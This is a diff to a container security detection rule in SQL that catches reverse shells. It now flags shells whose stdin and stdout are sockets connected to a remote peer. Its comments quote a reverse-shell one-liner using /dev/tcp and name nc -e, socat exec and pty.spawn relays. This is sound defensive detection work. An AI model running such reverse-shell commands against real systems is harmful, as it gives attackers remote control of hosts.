@@ -4,28 +4,26 @@
 -- tactic: Execution
 -- technique: bash or cmd inside container
 -- mitre: T1059.004
--- tables: process_activity, network_activity
--- description: Approximation (events carry no file descriptor table): a shell was executed by a process
---   that made an outbound TCP connection within 30 seconds before or after, the process itself (nc -e,
---   bash /dev/tcp redirection: same pid and start time) or its parent (python pty.spawn, socat exec).
---   Live, the rule sees the last 30 seconds of batches.
--- false_positives: Scripts that open TCP connections from shell (/dev/tcp health checks), wrappers that
---   connect and then run a shell script.
+-- tables: process_activity
+-- description: A shell was started with its stdin and stdout a socket connected to an IP peer (the sensor
+--   reads fds 0-2 at exec), whoever made the connection: nc -e, socat exec, a program that connects and
+--   dup2()s the socket, a socket handed down from a parent. Also a command started by a shell with such
+--   stdin and stdout (what an attacker types into `bash -i >& /dev/tcp/host/port 0>&1`). A /dev/tcp health
+--   check gives its commands the socket on one side only and does not match.
+-- false_positives: inetd-style services that hand a shell script a TCP connection as stdin and stdout
+--   (socat TCP-LISTEN,fork EXEC:script.sh). A relay (python pty.spawn, socat PTY) gives the shell a
+--   terminal instead of the socket: such shells are not caught here.
 -- suppress: 10m
--- window: 30s
 -- dedup: pid
 
-SELECT e.time, [e.event_id, c.event_id] AS event_ids, e.node, e.namespace, e.pod, e.pod_uid,
-       e.workload_kind, e.workload, e.container_id, e.image, e.pid, e.exe, e.cmdline,
-       c.remote_ip || ':' || CAST(c.remote_port AS VARCHAR) AS peer
-FROM process_activity e
-JOIN network_activity c
-  ON c.container_id = e.container_id
- AND ((c.pid = e.pid AND c.proc_start_ns = e.proc_start_ns) OR c.pid = e.ppid)
-WHERE e.kind = 'exec'
-  AND e.container_id IS NOT NULL
-  AND e.comm IN ('sh', 'bash', 'dash', 'ash', 'zsh', 'ksh', 'mksh')
-  AND c.kind = 'net_connect'
-  AND c.protocol = 'tcp'
-  AND c.family IN ('inet', 'inet6')
-  AND c.time BETWEEN e.time - INTERVAL '30 seconds' AND e.time + INTERVAL '30 seconds'
+SELECT time, [event_id] AS event_ids, node, namespace, pod, pod_uid, workload_kind, workload, container_id,
+       image, pid, exe, cmdline, stdio_protocol,
+       stdio_remote_ip || ':' || CAST(stdio_remote_port AS VARCHAR) AS peer
+FROM process_activity
+WHERE kind = 'exec'
+  AND container_id IS NOT NULL
+  AND stdin_type = 'socket'
+  AND stdout_type = 'socket'
+  AND stdio_remote_ip IS NOT NULL
+  AND (comm IN ('sh', 'bash', 'dash', 'ash', 'zsh', 'ksh', 'mksh', 'csh', 'tcsh', 'fish')
+       OR regexp_like(parent_cmdline, '^(\S*/)?(sh|bash|dash|ash|zsh|ksh|mksh|csh|tcsh|fish)(\s|$)'))
